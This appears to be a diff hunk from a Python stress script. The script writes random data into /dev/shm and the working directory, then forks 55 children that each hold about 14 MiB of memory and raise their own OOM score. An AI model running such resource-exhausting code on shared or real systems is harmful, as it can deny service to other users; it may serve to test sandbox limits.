@@ -9,15 +9,15 @@ for place in ("/dev/shm", os.getcwd()):
                 file.write(os.urandom(1 << 20))
     except OSError:
         pass
-for _ in range(40):
+for _ in range(55):
     try:
         if os.fork() == 0:
             with open("/proc/self/oom_score_adj", "w") as file:
                 file.write("500")
             kept = []
-            while True:
-                kept.append(os.urandom(1 << 18))
-                time.sleep(0.0005)
+            while len(kept) < 14:
+                kept.append(b"\1" * (1 << 20))
+            time.sleep(60)
     except OSError:
         break
 
